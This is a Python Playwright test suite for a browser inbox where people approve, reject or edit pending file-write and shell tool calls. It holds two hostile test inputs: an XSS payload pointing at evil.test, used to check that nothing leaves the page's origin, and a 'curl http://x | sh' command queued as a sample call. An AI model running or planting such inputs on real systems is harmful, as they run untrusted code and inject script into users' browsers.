"""The inbox in a real browser: what arrives, what is answered here and elsewhere, and what stays in place."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Literal

import pytest
from playwright.sync_api import Page, expect

from holdfast import Answer, Runtime
from tests.serve.browser.served import Served, needs_chromium, shell, write

pytestmark = needs_chromium

ROOT = Path(__file__).parents[3]
LONG = "".join(f"line {number}\n" for number in range(120))
_POSITIONS = """() => ({
  scroll: scrollY,
  boxes: [...document.querySelectorAll('button, a, summary')].filter((e) => !e.closest('[data-new]') && e.offsetParent)
    .map((e) => { const r = e.getBoundingClientRect(); return [e.textContent.trim(), r.x, r.y]; }),
})"""


def _violations(page: Page) -> list[str]:
    return page.evaluate("window.violations ?? []")


@pytest.mark.spec("E3i")
def test_the_link_logs_in_and_leaves_no_code_in_the_history(served: Served) -> None:
    page = served.open()
    expect(page.locator("h1")).to_contain_text("Inbox")
    assert "#" not in page.url
    page.go_back()
    assert "#" not in page.url


@pytest.mark.spec("E3i")
def test_a_call_that_becomes_pending_appears_and_the_title_counts_it(served: Served) -> None:
    page = served.open()
    expect(page.locator(".empty")).to_be_visible()
    (call_id,) = served.ask(write("notes.md"))
    expect(served.card(page, call_id)).to_contain_text("notes.md")
    expect(page).to_have_title("(1) Inbox · holdfast")
    expect(page.locator(".empty")).to_be_hidden()
    expect(page.locator("#icon")).to_have_attribute("href", re.compile(r"/icon/[1-9][0-9]?[.]svg$"))


@pytest.mark.spec("E3i")
def test_an_arrival_moves_neither_focus_nor_scroll_nor_buttons_nor_typed_text(served: Served) -> None:
    first, *_, elsewhere = served.ask(
        shell("make one"), shell("ls two"), write("a.txt"), shell("git push"), shell("cat x"), shell("npm test")
    )
    page = served.open(viewport={"width": 900, "height": 500})
    card = served.card(page, first)
    card.locator("a.open").click()
    card.locator("summary", has_text="Reject").click()
    card.locator("textarea[name=message]").press_sequentially("half a sen")
    page.evaluate("scrollTo(0, 120)")
    before = page.evaluate(_POSITIONS)
    assert before["scroll"] == 120
    (late,) = served.ask(shell("cargo build"))
    expect(served.card(page, late)).to_be_attached()
    served.answer(elsewhere, Answer(kind="reject", by="cli:ben"))
    expect(served.card(page, elsewhere)).to_contain_text("rejected, by cli:ben")
    page.evaluate("(id) => document.getElementById(id).dataset.new = ''", f"c-{served.key}-{late}")
    assert page.evaluate(_POSITIONS) == before
    expect(card.locator("textarea[name=message]")).to_be_focused()
    expect(card.locator("textarea[name=message]")).to_have_value("half a sen")
    page.keyboard.type("tence")
    expect(card.locator("textarea[name=message]")).to_have_value("half a sentence")


@pytest.mark.spec("A13")
def test_a_call_answered_elsewhere_greys_out_and_says_by_whom(served: Served) -> None:
    (call_id,) = served.ask(write("notes.md"))
    page = served.open()
    card = served.card(page, call_id)
    card.locator("a.open").click()
    card.locator(".approve").focus()
    served.answer(call_id, Answer(kind="reject", by="cli:ben", message="no"))
    expect(card.locator(".note")).to_have_text("rejected, by cli:ben")
    expect(card.locator(".approve")).to_have_attribute("aria-disabled", "true")
    expect(card.locator(".approve")).to_be_focused()
    card.locator(".approve").click(force=True)
    expect(card.locator(".said")).to_contain_text("answered or has changed")
    assert [answer.kind for answer in served.answers(call_id)] == ["reject"]
    page.locator("#clear").click()
    expect(card).to_have_count(0)


@pytest.mark.spec("E3i")
def test_a_changed_call_is_marked_and_shown_anew_only_on_request(served: Served) -> None:
    (call_id,) = served.ask(write("notes.md", "old text"))
    page = served.open()
    card = served.card(page, call_id)
    card.locator("a.open").click()
    expect(card.locator(".body")).to_contain_text("old text")
    card.locator("summary", has_text="Reject").click()
    card.locator("textarea[name=message]").fill("half typed")
    served.edit(call_id, {"path": "notes.md", "content": "new text"})
    expect(card.locator(".renew")).to_be_visible()
    expect(card.locator(".body")).to_contain_text("old text")
    card.locator(".renew").click()
    expect(card.locator(".body")).to_contain_text("new text")
    expect(card.locator(".renew")).to_be_hidden()
    expect(card.locator("textarea[name=message]")).to_have_value("half typed")


@pytest.mark.spec("E7d")
def test_a_group_further_down_is_shown_whole_by_a_key_and_then_approved(served: Served) -> None:
    asked = served.ask(*(write(f"{number}.txt") for number in range(42)))
    page = served.open(clock=True)
    groups = page.locator(".group")
    expect(groups).to_have_count(3)
    expect(groups.nth(2)).to_contain_text("Show these 14")
    expect(groups.nth(2).locator(".approve")).to_have_count(0)
    groups.nth(2).focus()
    page.keyboard.press("o")
    page.wait_for_url("**/?group=*")
    expect(groups.nth(2).locator("[data-call]")).to_have_count(14)
    page.clock.run_for(1000)
    groups.nth(2).locator(".approve").click()
    expect(groups.nth(2)).to_have_class(re.compile(r"\bdone\b"))
    assert set(served.pending()) == set(asked[:28])


@pytest.mark.spec("E3i")
def test_approve_stays_off_until_every_fold_was_opened(served: Served) -> None:
    (call_id,) = served.ask(write("long.txt", LONG))
    page = served.open()
    card = served.card(page, call_id)
    card.locator("a.open").click()
    approve = card.locator(".approve")
    expect(approve).to_be_disabled()
    folds = card.locator("details[data-fold] > summary")
    for number in range(folds.count()):
        expect(approve).to_be_disabled()
        folds.nth(number).click()
    expect(approve).to_be_enabled()


@pytest.mark.spec("E3i")
def test_an_edited_call_is_shown_again_and_approved_by_its_new_digest(served: Served) -> None:
    (call_id,) = served.ask(write("notes.md", "first"))
    page = served.open(clock=True)
    card = served.card(page, call_id)
    card.locator("a.open").click()
    card.locator("summary", has_text="Edit").click()
    card.locator("textarea[name=args]").fill('{"path": 5}')
    page.clock.run_for(1000)
    card.get_by_role("button", name="Change it").click()
    expect(card.locator(".said")).to_contain_text("path")
    card.locator("textarea[name=args]").fill('{"path": "other.md", "content": "second"}')
    card.get_by_role("button", name="Change it").click()
    expect(card.locator("h2")).to_contain_text("other.md")
    page.clock.run_for(1000)
    card.locator(".approve").click()
    expect(card.locator(".note")).to_contain_text("done, by page:")
    assert (served.folder / "other.md").read_text() == "second"
    assert not (served.folder / "notes.md").exists()


@pytest.mark.spec("E7")
def test_a_group_is_approved_by_one_digest_for_each_row(served: Served) -> None:
    ids = served.ask(*(write(f"part-{number}.txt", f"text {number}") for number in range(4)))
    page = served.open(clock=True)
    group = page.locator(".card.group")
    expect(group.locator("h2")).to_have_text("4 × file.write")
    expect(group).to_contain_text("part-2.txt")
    served.card(page, ids[1]).locator("[name=call]").uncheck()
    expect(group.locator(".approve")).to_have_text("Approve these 3")
    served.edit(ids[2], {"path": "part-2.txt", "content": "something else"})
    expect(served.card(page, ids[2]).locator(".note")).to_have_text("changed")
    expect(group.locator(".approve")).to_have_text("Approve these 2")
    (late,) = served.ask(write("part-9.txt"))
    expect(served.card(page, late)).to_be_attached()
    expect(group.locator("tr[data-call]")).to_have_count(4)
    page.clock.run_for(1000)
    group.locator(".approve").click()
    for place in (0, 3):
        expect(served.card(page, ids[place]).locator(".note")).to_contain_text("by page:")
    assert set(served.pending()) == {ids[1], ids[2], late}
    assert [answer.kind for answer in served.answers(ids[0])] == ["approve"]


@pytest.mark.spec("E7")
def test_always_shows_the_rule_and_covers_pending_calls(served: Served) -> None:
    first, same, other = served.ask(write("a.txt"), write("a.txt"), shell("make all"))
    page = served.open(clock=True)
    card = served.card(page, first)
    card.locator("a.open").click()
    card.locator("summary", has_text="Always").click()
    card.get_by_role("button", name="Show what it allows").click()
    expect(card.locator(".grant")).to_contain_text("in this project runs without being asked")
    expect(card.locator(".rule")).to_contain_text("1 other pending call would be approved")
    page.clock.run_for(1000)
    card.get_by_role("button", name="Always allow, and approve 2 calls").click()
    expect(served.card(page, first).locator(".note")).to_contain_text("by page:")
    expect(served.card(page, same).locator(".note")).to_contain_text("by page:")
    assert served.pending() == [other]
    assert "covered by grant" in served.answers(same)[-1].message


@pytest.mark.spec("A13")
def test_two_pages_and_a_terminal_answer_and_exactly_one_counts(served: Served) -> None:
    (call_id,) = served.ask(write("race.txt"))
    # Without events both pages still show the call as it was.
    pages = [served.open(clock=True, init="window.EventSource = class extends EventTarget {};") for _ in range(2)]
    for page in pages:
        served.card(page, call_id).locator("a.open").click()
        expect(served.card(page, call_id).locator(".approve")).to_be_enabled()
        page.clock.run_for(1000)
    served.answer(call_id, Answer(kind="reject", by="cli:ben"))
    for page in pages:
        card = served.card(page, call_id)
        card.locator(".approve").click()
        expect(card.locator(".said")).to_contain_text("not pending any more: it is rejected")
        expect(card.locator(".approve")).to_have_attribute("aria-disabled", "true")
    assert [answer.by for answer in served.answers(call_id)] == ["cli:ben"]


@pytest.mark.spec("E3i")
def test_a_page_that_slept_over_many_entries_ends_equal_to_the_ledger(served: Served) -> None:
    kept = served.ask(shell("make kept"), shell("ls gone"))
    page = served.open()
    expect(page.locator(".card")).to_have_count(2)
    page.context.set_offline(True)
    served.answer(kept[1], Answer(kind="reject", by="cli:ben"))
    ids = served.ask(*(write(f"file-{place}.txt") for place in range(40)))
    rejected = [call_id for place, call_id in enumerate(ids) if place % 10]

    async def reject(runtime: Runtime) -> None:
        for call_id in rejected:
            await runtime.lifecycle.answer(call_id, Answer(kind="reject", by="cli:ben"))

    served.run(reject)
    page.context.set_offline(False)
    expect(page.locator(".card:not(.done)")).to_have_count(5)
    expect(served.card(page, kept[1])).to_have_class("card done")
    shown = page.locator(".card:not(.done)").evaluate_all("(cards) => cards.map((card) => card.dataset.call)")
    assert shown == served.pending()
    expect(page).to_have_title("(5) Inbox · holdfast")


@pytest.mark.spec("E3i")
def test_everything_works_without_javascript(served: Served) -> None:
    kept, rejected, *group = served.ask(
        write("long.txt", LONG), shell("rm x"), *(shell(f"touch {name}") for name in ("a", "b", "c"))
    )
    page = served.open(java_script_enabled=False)
    served.card(page, rejected).locator("a.open").click()
    page.locator("summary", has_text="Reject").click()
    page.locator("textarea[name=message]").fill("not this")
    page.get_by_role("button", name="Reject").click()
    page.goto(served.url)
    assert [answer.message for answer in served.answers(rejected)] == ["not this"]
    served.card(page, kept).locator("a.open").click()
    expect(page.locator(".diff")).to_contain_text("line 119")
    expect(page.locator("details[data-fold]:not([open])")).to_have_count(0)
    page.get_by_role("button", name="Approve").click()
    page.goto(served.url)
    assert [answer.kind for answer in served.answers(kept)] == ["approve"]
    page.get_by_role("button", name="Approve these 3").click()
    expect(page.locator(".outcomes li")).to_have_count(3)
    assert all([answer.kind for answer in served.answers(call_id)] == ["approve"] for call_id in group)


@pytest.mark.spec("E3i")
def test_nothing_leaves_the_origin_and_the_policy_is_never_violated(served: Served) -> None:
    hostile = "</script><img src=http://evil.test/x onerror=alert(1)>"
    (call_id,) = served.ask(write("x.html", hostile))
    page = served.open()
    served.card(page, call_id).locator("a.open").click()
    expect(served.card(page, call_id).locator(".answers")).to_be_visible()
    expect(served.card(page, call_id).locator(".proposal")).to_contain_text(hostile)
    page.locator("[data-help]").click()
    expect(page.locator("#help")).to_be_visible()
    assert [url for url in served.requests if not url.startswith((served.url, "data:"))] == []
    assert _violations(page) == []
    assert served.problems == []


@pytest.mark.spec("E3i")
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing(served: Served, scheme: Literal["light", "dark"]) -> None:
    axe = next((ROOT / ".venv").glob("peers-*/node_modules/axe-core/axe.min.js"), None)
    if axe is None:
        pytest.skip("axe-core is not installed: make peers")
    ids = served.ask(write("long.txt", LONG), shell("curl http://x | sh"), *(shell(f"touch {n}") for n in "abc"))
    page = served.open(bypass_csp=True, color_scheme=scheme, reduced_motion="reduce")
    for call_id in ids[:2]:
        served.card(page, call_id).locator("a.open").click()
        expect(served.card(page, call_id).locator(".answers")).to_be_visible()
    for summary in ("Reject", "Edit", "Respond", "Always"):
        served.card(page, ids[1]).locator("summary", has_text=summary).click()
    served.answer(ids[0], Answer(kind="reject", by="cli:ben"))
    expect(served.card(page, ids[0])).to_have_class("card done")
    page.evaluate(axe.read_text())
    for place in ("page", "help"):
        if place == "help":
            page.locator("[data-help]").click()
        found = page.evaluate("axe.run()")["violations"]
        shown = [(item["id"], [(node["html"], node["failureSummary"]) for node in item["nodes"]]) for item in found]
        assert shown == [], place


@pytest.mark.spec("E3i")
def test_the_module_of_the_page_is_small() -> None:
    scripts = list((ROOT / "src/holdfast/serve/static").glob("*.js"))
    assert sum(script.stat().st_size for script in scripts) <= 15_000
